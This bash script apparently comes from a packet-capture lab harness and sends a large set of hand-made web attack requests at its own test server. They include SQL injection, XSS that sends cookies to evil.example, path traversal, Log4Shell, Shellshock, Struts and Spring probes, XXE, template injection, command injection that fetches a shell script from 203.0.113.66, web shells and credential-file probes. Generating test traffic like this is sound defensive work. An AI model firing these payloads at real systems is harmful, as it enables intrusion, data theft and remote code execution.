# Attacks. Nothing here is a working exploit of anything but our own test application.
# shellcheck shell=bash disable=SC2154,SC2016,SC2086

attacker() { at atk curl -sS --max-time 10 --path-as-is "$@" -o /dev/null; }

about web_attacks "nginx-light curl" \
  "ATTACK: hand-made requests to nginx and a page with a real SQL injection (/item?id=): UNION SELECT, boolean, stacked, comment-obfuscated, double-encoded; XSS plain, encoded, in a POST; path traversal plain, encoded, double-encoded, overlong UTF-8; Log4Shell in query, User-Agent and obfuscated; Shellshock; command injection; web shells; file inclusion; XXE; template injection; Spring, Struts and PHP-CGI probes; scanner agents (sqlmap, nikto, Nmap NSE, gobuster, nuclei, wpscan ...); TRACE and a CONNECT"
cap_web_attacks() {
  local w=http://www.corp.example ua
  web
  capture gw srv
  # SQL injection
  attacker "$w/item?id=1%20UNION%20SELECT%20login,password%20FROM%20users"
  attacker "$w/item?id=1+union+all+select+null,sqlite_version()--+-"
  attacker "$w/item?id=1%20OR%201=1"
  attacker "$w/item?id=1'%20OR%20'1'='1"
  attacker "$w/item?id=1;DROP%20TABLE%20users--"
  attacker "$w/item?id=1/**/UnIoN/**/SeLeCt/**/login,password/**/FrOm/**/users"
  attacker "$w/item?id=1%2520UNION%2520SELECT%25201,2"
  attacker "$w/item?id=1%20AND%20SLEEP(5)"
  attacker "$w/item?id=1%20AND%20(SELECT%201%20FROM%20(SELECT%20COUNT(*),CONCAT(0x7e,version(),FLOOR(RAND(0)*2))x%20FROM%20information_schema.tables%20GROUP%20BY%20x)a)"
  attacker -d "user=admin'--&password=x" $w/login
  attacker -b "session=1' or sleep(3)#" $w/index.html
  # cross-site scripting
  attacker "$w/search?q=<script>alert(1)</script>"
  attacker "$w/search?q=%3Cscript%3Edocument.location%3D%27http%3A%2F%2Fevil.example%2F%3Fc%3D%27%2Bdocument.cookie%3C%2Fscript%3E"
  attacker "$w/search?q=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(document.domain)%3E"
  attacker "$w/search?q=%253Csvg%252Fonload%253Dalert(1)%253E"
  attacker "$w/search?q=javascript:alert(1)//"
  attacker -d 'comment=<iframe src="javascript:alert(1)"></iframe>' $w/upload/comment
  # path traversal and file inclusion
  attacker "$w/../../../../etc/passwd"
  attacker "$w/download/..%2f..%2f..%2f..%2fetc%2fpasswd"
  attacker "$w/download/%2e%2e/%2e%2e/%2e%2e/etc/shadow"
  attacker "$w/download/..%252f..%252f..%252fetc%252fpasswd"
  attacker "$w/scripts/..%c0%af..%c0%afwinnt/system32/cmd.exe?/c+dir"
  attacker "$w/search?file=....//....//....//etc/passwd"
  attacker "$w/index.php?page=php://filter/convert.base64-encode/resource=index.php"
  attacker "$w/index.php?page=http://evil.example/shell.txt%3F"
  attacker "$w/search?f=..%5c..%5c..%5cwindows%5cwin.ini"
  # Log4Shell, Shellshock and other well-known holes
  attacker -G --data-urlencode 'q=${jndi:ldap://203.0.113.66:1389/a}' $w/search
  attacker -A '${jndi:ldap://203.0.113.66:1389/Basic/Command/Base64/aWQ=}' $w/
  attacker -H 'X-Api-Version: ${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://203.0.113.66/x}' $w/
  attacker -A '() { :; }; /bin/bash -c "cat /etc/passwd"' $w/cgi-bin/status
  attacker -H 'Referer: () { ignored; }; echo Content-Type: text/plain; echo; /usr/bin/id' $w/cgi-bin/test.cgi
  attacker -H 'Content-Type: %{(#_="multipart/form-data").(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd="id")}' -d x $w/struts2/index.action
  attacker -d 'class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di' $w/spring
  attacker -d '<?php system("id"); ?>' "$w/cgi-bin/php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input"
  attacker -d '<?php echo shell_exec("id"); ?>' $w/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php
  attacker -d '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>' -H 'Content-Type: text/xml' $w/api/xml
  attacker "$w/search?q=%7B%7B7*7%7D%7D%7B%7Bconfig.__class__.__init__.__globals__%5B'os'%5D.popen('id').read()%7D%7D"
  attacker "$w/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh" -d 'echo; id'
  # command injection and web shells
  attacker "$w/search?host=127.0.0.1;cat%20/etc/passwd"
  attacker "$w/search?host=127.0.0.1%7Cid"
  attacker "$w/search?host=%60wget%20http://203.0.113.66/x.sh%60"
  attacker "$w/search?host=\$(curl%20203.0.113.66/x.sh%7Csh)"
  attacker "$w/uploads/shell.php?cmd=id"
  attacker "$w/uploads/c99.php?act=ls&d=%2Fetc"
  attacker -d 'cmd=cat+/etc/passwd' $w/uploads/cmd.jsp
  attacker -d 'pass=@eval(base64_decode($_POST[z0]));&z0=cGhwaW5mbygpOw==' $w/uploads/1.php
  attacker -F 'file=@/dev/stdin;filename=shell.php;type=application/x-php' $w/upload <<<'<?php system($_GET["cmd"]); ?>'
  # scanners, by how they introduce themselves
  while read -r ua; do attacker -A "$ua" $w/; done <<'AGENTS'
sqlmap/1.7.2#stable (https://sqlmap.org)
Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)
Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)
gobuster/3.5
Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))
WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)
Wfuzz/3.1.0
feroxbuster/2.7.3
Fuzz Faster U Fool v2.0.0-dev
masscan/1.3 (https://github.com/robertdavidgraham/masscan)
Mozilla/5.0 zgrab/0.x
python-requests/2.28.1
Mozilla/5.0 (Hydra)
DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)
AGENTS
  local p
  for p in .git/config .env wp-login.php phpmyadmin/index.php .aws/credentials server-status actuator/env; do attacker $w/$p; done
  attacker -X TRACE $w/
  attacker -X DEBUG -H 'Command: stop-debug' $w/
  printf 'CONNECT 10.10.1.10:22 HTTP/1.1\r\nHost: 10.10.1.10:22\r\n\r\n' | at atk ncat -w 1 $SRV4 80 || true
}
